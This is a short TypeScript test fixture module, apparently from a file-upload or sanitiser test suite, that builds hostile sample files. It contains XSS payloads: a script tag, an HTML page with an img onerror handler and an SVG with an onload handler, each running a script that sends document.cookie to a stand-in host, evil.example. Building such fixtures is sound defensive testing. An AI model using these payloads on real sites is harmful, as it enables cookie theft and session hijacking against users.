/** The mark that a script of a file would leave on the page it runs in. */
export const mark = 'konsilRan';

/** What every hostile file tries: leave a mark, ask something, call home. */
export const script = `globalThis.${mark}=1;alert(document.domain);fetch('https://evil.example/steal?'+document.cookie)`;
export const element = `<script>${script}</script>`;
export const page = `<!doctype html><html><body>${element}<img src=x onerror="${script}"></body></html>`;
export const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}">${element}<image href="https://evil.example/x.png"/></svg>`;

export interface HostileFile {
  /** What it is, for the report. */
  what: string;
  name: string;
  bytes: Buffer;
  /** What becomes of it: kept and then harmless, or turned away. */
  kept: boolean;
}

export const text = (content: string): Buffer => Buffer.from(content, 'latin1');
export const refused = (what: string, name: string, bytes: Buffer): HostileFile => ({ what, name, bytes, kept: false });
export const kept = (what: string, name: string, bytes: Buffer): HostileFile => ({ what, name, bytes, kept: true });
